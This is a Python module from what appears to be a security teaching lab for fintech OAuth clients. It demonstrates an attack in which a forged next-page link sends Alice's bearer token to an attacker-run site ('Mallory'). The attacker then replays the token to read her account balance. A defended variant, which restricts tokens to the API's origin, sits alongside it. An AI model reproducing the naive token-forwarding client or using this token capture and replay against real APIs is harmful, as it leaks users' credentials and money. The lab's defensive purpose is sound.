"""Mallory runs a server that looks like the bank's API, and the fintech sends it Alice's token.

The API's answer has a link to its next page. Mallory has managed to put a link to his own server there, by the text of
a payment that he sent to Alice. A naive client follows the link, with the token.

The fintech stops this. The client for an API sends its token to the origin of that API and to no other, and follows no
redirect.
"""

from __future__ import annotations

from examples.attack_lab.answers import accepted
from examples.attack_lab.attack import Attack
from examples.attack_lab.lab import Lab
from examples.attack_lab.mallory import MallorysSite
from examples.attack_lab.story import Party, Story

LOOT = "the balance of Alice's account"
FINTECH, MALLORY, API = Party.FINTECH, Party.MALLORY, Party.ACCOUNTS


def undefended(lab: Lab, story: Story) -> str:
    bank = lab.naive_bank()
    mallory, origin = lab.mallorys_site()
    _tell(story)
    lab.http.get(f"{origin}/accounts?page=2", headers={"authorization": f"Bearer {bank.issue('alice')}"})
    return _use(lab, story, mallory, f"{bank.issuer}/accounts")


def defended(lab: Lab, story: Story) -> str:
    """A bearer token, which Mallory can use as it is."""
    world = lab.under("oauth-2.1")
    app = world.app()
    tokens = world.signed_in(app, scope="accounts", resource=world.accounts).tokens
    mallory, origin = lab.mallorys_site()
    _tell(story)
    with app.api(tokens, base_url=world.accounts, resource=world.accounts, verify=lab.tls) as api:
        api.get(f"{origin}/accounts?page=2")
    return _use(lab, story, mallory, world.accounts)


def _tell(story: Story) -> None:
    story.step(API, FINTECH, "the accounts, and a link to the next page", "Mallory wrote the link.")
    story.step(
        FINTECH,
        MALLORY,
        "GET the next page, with Alice's token",
        "The client does not ask whose server it is.",
    )


def _use(lab: Lab, story: Story, mallory: MallorysSite, accounts: str) -> str:
    authorization = mallory.last("/accounts").headers["authorization"]
    story.step(MALLORY, API, "GET /accounts with that token", "It is a good token.")
    answer = accepted(lab.http.get(accounts, headers={"authorization": authorization}))
    assert answer.json()["balance"] == "18000.00"
    return LOOT


ATTACK = Attack(
    id="T7F",
    title="a false API",
    loot=LOOT,
    countermeasures=("C10",),
    rule="ForeignOrigin",
    clause="RFC 9700 4.9.3",
    defence="fapikit.urls.origin_of",
    without=lambda _url: "https://anywhere.example",
    undefended=undefended,
    defended=defended,
)
